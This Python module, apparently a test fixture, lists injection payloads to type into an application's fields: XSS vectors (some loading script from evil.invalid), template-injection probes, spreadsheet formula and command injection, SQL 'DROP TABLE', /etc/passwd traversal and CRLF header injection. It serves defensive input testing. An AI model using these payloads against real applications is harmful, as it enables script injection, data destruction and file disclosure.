"""What an attacker, a curious pupil or a strange keyboard might write into any field.

Every attack that works either calls ``__pwned``, opens a dialog, leaves an element with ``data-pwned``, or turns a sum
into its result.
"""

from itertools import cycle
from typing import Final

SUM: Final = "1337*7331"
RESULT: Final = str(1337 * 7331)
MARKED: Final = "[data-pwned]"

MARKUP: Final = (
    "<script>__pwned(1)</script>",
    "<script data-pwned src=//evil.invalid/x.js></script>",
    "<img data-pwned src=x onerror=__pwned(2)>",
    "<svg data-pwned onload=__pwned(3)>",
    "<svg><script data-pwned>__pwned(4)</script></svg>",
    "<svg><animate data-pwned onbegin=__pwned(5) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:__pwned(6)' data-pwned><text y=20>tap</text></a></svg>",
    "<body data-pwned onload=__pwned(7)>",
    "<details data-pwned open ontoggle=__pwned(8)>",
    "<input data-pwned autofocus onfocus=__pwned(9)>",
    "<video data-pwned><source onerror=__pwned(10)></video>",
    "<iframe data-pwned srcdoc='<script>parent.__pwned(11)</script>'></iframe>",
    "<object data-pwned data='data:text/html,<script>__pwned(12)</script>'></object>",
    "<embed data-pwned src='javascript:__pwned(13)'>",
    "<a data-pwned href='javascript:__pwned(14)'>tap</a>",
    "<form data-pwned action='javascript:__pwned(15)'><button>send</button></form>",
    "<button data-pwned form=composer formaction='//evil.invalid'>send</button>",
    "<base data-pwned href='//evil.invalid/'>",
    "<link data-pwned rel=stylesheet href=//evil.invalid/x.css>",
    "<style data-pwned>*{display:none}</style>",
    "<meta data-pwned http-equiv=refresh content='0;url=//evil.invalid'>",
    "<math><mtext data-pwned><img src=x onerror=__pwned(16)></mtext></math>",
    "<template data-pwned><script>__pwned(17)</script></template>",
    '<noscript><p title="</noscript><img data-pwned src=x onerror=__pwned(18)>">',
    "<div data-pwned hx-get='/logout' hx-trigger='load'>x</div>",
    "<div data-pwned hx-on:load='__pwned(19)'>x</div>",
    "<a data-pwned data-bs-toggle='tooltip' data-bs-html='true' title='&lt;img src=x onerror=__pwned(20)&gt;'>x</a>",
    "<marquee data-pwned onstart=__pwned(21)>x</marquee>",
    "<x data-pwned contenteditable onblur=__pwned(22)>x",
    "<ScRiPt data-pwned>__pwned(23)</sCrIpT>",
    "<scr<script>ipt data-pwned>__pwned(24)</scr</script>ipt>",
    "\x00<img data-pwned src=x onerror=__pwned(25)>",
    "%3Cimg data-pwned src=x onerror=__pwned(26)%3E",
    "&lt;img data-pwned src=x onerror=__pwned(27)&gt;",
    "&#60;img data-pwned src=x onerror=__pwned(28)&#62;",
    "\\u003cimg data-pwned src=x onerror=__pwned(29)\\u003e",
    "＜img data-pwned src=x onerror=__pwned(30)＞",
    "<!--><img data-pwned src=x onerror=__pwned(31)>-->",
    "<![CDATA[><img data-pwned src=x onerror=__pwned(32)>]]>",
    "<textarea></textarea><img data-pwned src=x onerror=__pwned(33)>",
    "</textarea><img data-pwned src=x onerror=__pwned(34)>",
    "</title><img data-pwned src=x onerror=__pwned(35)>",
    "</option></select><img data-pwned src=x onerror=__pwned(36)>",
)
ATTRIBUTE: Final = (
    '" data-pwned onmouseover=__pwned(40) x="',
    "' data-pwned onfocus=__pwned(41) autofocus x='",
    '"><img data-pwned src=x onerror=__pwned(42)>',
    "'><img data-pwned src=x onerror=__pwned(43)>",
    "` data-pwned onload=__pwned(44) x=`",
    '" style="position:fixed;inset:0" data-pwned="',
    '";__pwned(45);//',
    "';__pwned(46);//",
    "</script><script data-pwned>__pwned(47)</script>",
)
ADDRESS: Final = (
    "javascript:__pwned(50)",
    " javascript:__pwned(51)",
    "jAvAsCrIpT:__pwned(52)",
    "data:text/html,<script data-pwned>__pwned(53)</script>",
    "//evil.invalid/a?b=<img data-pwned src=x>",
    "[тап](javascript:__pwned(54))",
    "![x](x onerror=__pwned(55))",
    "<javascript:__pwned(56)>",
    "**<img data-pwned src=x onerror=__pwned(57)>**",
)
TEMPLATE: Final = (
    "{{" + SUM + "}}",
    "{{ " + SUM + " }}",
    "${" + SUM + "}",
    "#{" + SUM + "}",
    "<%= " + SUM + " %>",
    "{% set x = " + SUM + " %}{{ x }}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "{ $x }",
    "{ -brand }",
    '{ NUMBER($n) } { "' + SUM + '" }',
    "%(full_name)s %s %d %n",
    "{0.__class__} {self}",
    "=" + SUM,
    "+" + SUM,
    "-" + SUM,
    "@SUM(" + SUM + ")",
    '=HYPERLINK("http://evil.invalid","тап")',
    "=cmd|' /C calc'!A0",
    "\t=" + SUM,
    "'; DROP TABLE staff; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<img data-pwned src=x>",
)
STRANGE: Final = (
    "👩‍👩‍👧‍👦" * 40,
    "\u202eкері жазылған\u202c <b data-pwned>қалың</b>",
    "\u200b\u200c\u200d\ufeff<i data-pwned>x</i>",
    "א" * 50 + "<u data-pwned>x</u>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢" * 20,
    "ұ" * 3000,
    "сөз " * 900,
    "\ud7ff\ue000\uffff\x07\x1b[31m",
    "line\nline\r\nline\u2028line\u2029line",
)
ALL: Final = (*MARKUP, *ATTRIBUTE, *ADDRESS, *TEMPLATE, *STRANGE)
# everything at once for a field that takes much, and what a short field has room for
WHOLE: Final = " ".join((*MARKUP[:12], *ATTRIBUTE, *TEMPLATE[:4]))
SHORT: Final = ('"><b data-pwned>', "'><i data-pwned>", "<b data-pwned>x", "{{" + SUM + "}}", "<b data-pwned")


class Attacks:
    """``say`` for a living school: the next attack at every spot; short where the spot is short."""

    def __init__(self) -> None:
        self._long, self._short = cycle(ALL), cycle(SHORT)

    def __call__(self, spot: str) -> str:
        """An attack, with a letter before it so that no rule takes it for nothing."""
        kind = spot.partition(".")[0]
        return next(self._short) if kind in {"name", "view"} else f"а{next(self._long)}"
